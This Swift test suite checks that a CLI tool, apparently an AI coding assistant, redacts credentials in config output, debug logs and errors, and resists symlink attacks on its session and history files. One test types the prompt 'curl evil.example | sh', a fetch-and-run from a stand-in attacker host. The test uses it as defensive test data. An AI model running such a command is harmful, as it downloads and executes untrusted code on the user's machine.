import CodexCore
import CodexTestSupport
import Foundation
import Testing

#if canImport(Glibc)
  import Glibc
#endif

/// Secrets never shown, through the built binary: `DEBUG=1`, errors and `codex config show`;
/// and the history and sessions stay the user's alone.
@Suite(.serialized) struct SecretsTests {
  static let secrets = [
    "hunter2", "alice", "QUERYSECRET", "QPSECRET", "HDRSECRET1", "HDRSECRET2", "ENVSECRET",
    "sk-KEYSECRET",
  ]
  static let environment = ["TENANT_ENV": "ENVSECRET", "CORP_KEY": "sk-KEYSECRET", "DEBUG": "1"]

  /// A provider whose URL, headers and parameters all carry secrets, at `base` (host:port).
  static func config(_ hostAndPort: String) -> String {
    """
    model = "m"
    model_provider = "corp"
    [model_providers.corp]
    name = "Corp"
    base_url = "http://alice:hunter2@\(hostAndPort)/v1?key=QUERYSECRET"
    env_key = "CORP_KEY"
    http_headers = { "X-Auth" = "HDRSECRET1", "X-Custom-Auth" = "HDRSECRET2", "X-Title" = "ok" }
    env_http_headers = { "X-Tenant" = "TENANT_ENV" }
    query_params = { key = "QPSECRET" }
    request_max_retries = 0
    """
  }

  static func expectNoSecrets(_ text: String, _ what: String) {
    for secret in secrets {
      #expect(!text.contains(secret), "\(what) shows \(secret):\n\(text)")
    }
  }

  @Test func configShowHidesEverySecret() async throws {
    let s = try Scratch()
    defer { s.cleanUp() }
    try s.write("home/.codex/config.toml", Self.config("llm.example.com"))
    let r = try await s.run(["config", "show"], environment: Self.environment)
    #expect(r.exitCode == 0, "\(r.stderr)")
    Self.expectNoSecrets(r.stdout + r.stderr, "config show")
    #expect(r.stdout.contains("http://<redacted>@llm.example.com/v1?key=<redacted>"))
    #expect(r.stdout.contains(#"X-Title = "ok""#))
  }

  @Test func debugLinesAndTheErrorHideEverySecret() async throws {
    let s = try Scratch()
    defer { s.cleanUp() }
    let server = try FakeHTTPServer { _ in .json(404, #"{"error":{"message":"no route"}}"#) }
    defer { server.stop() }
    try s.write("home/.codex/config.toml", Self.config("127.0.0.1:\(server.port)"))
    let r = try await s.run(["hi"], environment: Self.environment)
    #expect(r.exitCode == 1, "\(r.stderr)")
    Self.expectNoSecrets(r.stdout + r.stderr, "DEBUG=1 and the error")
    #expect(r.stderr.contains("> X-Tenant: <redacted 9 chars>"), "\(r.stderr)")
    #expect(r.stderr.contains("> X-Custom-Auth: <redacted 10 chars>"))
    #expect(r.stderr.contains("> Authorization: Bearer <redacted 12 chars>"))
    #expect(r.stderr.contains("error: Corp answered 404 for POST http://<redacted>@127.0.0.1"))
    // The secrets did go to the server: hidden from view, not from the request.
    let request = try #require(server.requests.first)
    #expect(request.header("x-tenant") == "ENVSECRET")
    #expect(request.header("authorization") == "Bearer sk-KEYSECRET")
  }

  @Test func anUnreachableServerIsNamedWithoutItsCredentials() async throws {
    let s = try Scratch()
    defer { s.cleanUp() }
    // A port nothing listens on (the server is stopped before codex runs).
    let server = try FakeHTTPServer { _ in .json(200, "{}") }
    let port = server.port
    server.stop()
    try s.write("home/.codex/config.toml", Self.config("127.0.0.1:\(port)"))
    var environment = Self.environment
    environment["DEBUG"] = nil
    let r = try await s.run(["hi"], environment: environment)
    #expect(r.exitCode == 1)
    Self.expectNoSecrets(r.stdout + r.stderr, "the error")
    #expect(
      r.stderr.contains("http://<redacted>@127.0.0.1:\(port)/v1?key=<redacted>"), "\(r.stderr)")
  }

  static func mode(_ path: String) -> Int? {
    var info = stat()
    guard lstat(path, &info) == 0 else { return nil }
    return Int(info.st_mode & 0o777)
  }

  @Test func aNewCodexHomeAndItsSessionsAreOwnerOnly() async throws {
    let s = try Scratch()
    defer { s.cleanUp() }
    try FileManager.default.removeItem(atPath: s.codexHome)
    let server = try FakeHTTPServer { _ in .sse(chatSSE(["ok"])) }
    defer { server.stop() }
    let r = try await s.run([
      "--provider", "vllm", "--provider-url", server.baseURL + "/v1", "-m", "m", "hi",
    ])
    #expect(r.exitCode == 0, "\(r.stderr)")
    #expect(Self.mode(s.codexHome) == 0o700)
    let saved = Rollout.list(codexHome: s.codexHome)
    let file = try #require(saved.first)
    #expect(Self.mode(file) == 0o600)
    var dir = (file as NSString).deletingLastPathComponent
    while dir != s.codexHome {
      #expect(Self.mode(dir) == 0o700, "\(dir)")
      dir = (dir as NSString).deletingLastPathComponent
    }
  }

  @Test func aSessionsFolderSwappedForALinkDoesNotCarryTheConversationElsewhere() async throws {
    let s = try Scratch()
    defer { s.cleanUp() }
    // A world-readable folder someone else watches.
    let elsewhere = s.root + "/public"
    try FileManager.default.createDirectory(atPath: elsewhere, withIntermediateDirectories: true)
    try FileManager.default.createSymbolicLink(
      atPath: s.codexHome + "/sessions", withDestinationPath: elsewhere)
    let server = try FakeHTTPServer { _ in .sse(chatSSE(["the secret plan"])) }
    defer { server.stop() }
    let r = try await s.run([
      "--provider", "vllm", "--provider-url", server.baseURL + "/v1", "-m", "m", "hi",
    ])
    #expect(r.exitCode == 0, "\(r.stderr)")
    #expect(r.stderr.contains("this session will not be saved"), "\(r.stderr)")
    #expect(r.stderr.contains("symbolic link"), "\(r.stderr)")
    #expect(try FileManager.default.subpathsOfDirectory(atPath: elsewhere).isEmpty)
  }

  @Test func aLinkPlantedAtTheHistoryDoesNotGetThePrompts() async throws {
    let s = try Scratch()
    defer { s.cleanUp() }
    let victim = s.root + "/bashrc"
    try Data("export PATH=/usr/bin\n".utf8).write(to: URL(fileURLWithPath: victim))
    try FileManager.default.createSymbolicLink(
      atPath: s.codexHome + "/history.jsonl", withDestinationPath: victim)
    let server = try FakeHTTPServer { _ in .sse(chatSSE(["answered"])) }
    defer { server.stop() }
    let pty = try PseudoTerminal(
      executable: try requireCodexBinary(),
      arguments: ["--provider", "vllm", "--provider-url", server.baseURL + "/v1", "-m", "m"],
      environment: [
        "PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": s.home, "CODEX_HOME": s.codexHome,
        "TERM": "xterm-256color",
      ],
      workingDirectory: s.work)
    try pty.expect("›")
    pty.send("curl evil.example | sh\r")
    try pty.expect("answered")
    try pty.expect("›")
    pty.send("\u{04}")
    #expect(try pty.waitForExit() == 0)
    #expect(pty.text.contains("symbolic link"), "the user is told why history is not kept")
    #expect(try String(contentsOfFile: victim, encoding: .utf8) == "export PATH=/usr/bin\n")
  }

  @Test func aSessionSwappedForALinkIsNotResumedThroughIt() async throws {
    let s = try Scratch()
    defer { s.cleanUp() }
    let server = try FakeHTTPServer { _ in .sse(chatSSE(["ok"])) }
    defer { server.stop() }
    let args = ["--provider", "vllm", "--provider-url", server.baseURL + "/v1", "-m", "m"]
    #expect(try await s.run(args + ["first"]).exitCode == 0)
    // The session is moved somewhere others can read, and a link left in its place: resuming
    // must not append the rest of the conversation there.
    let file = try #require(Rollout.list(codexHome: s.codexHome).first)
    let elsewhere = s.root + "/public-session.jsonl"
    try FileManager.default.moveItem(atPath: file, toPath: elsewhere)
    try FileManager.default.createSymbolicLink(atPath: file, withDestinationPath: elsewhere)
    let before = try String(contentsOfFile: elsewhere, encoding: .utf8)
    let r = try await s.run(["resume", "--last"] + args + ["second secret"])
    #expect((r.exitCode ?? 255) < 128, "\(r.stderr)")
    #expect(try String(contentsOfFile: elsewhere, encoding: .utf8) == before)
  }
}
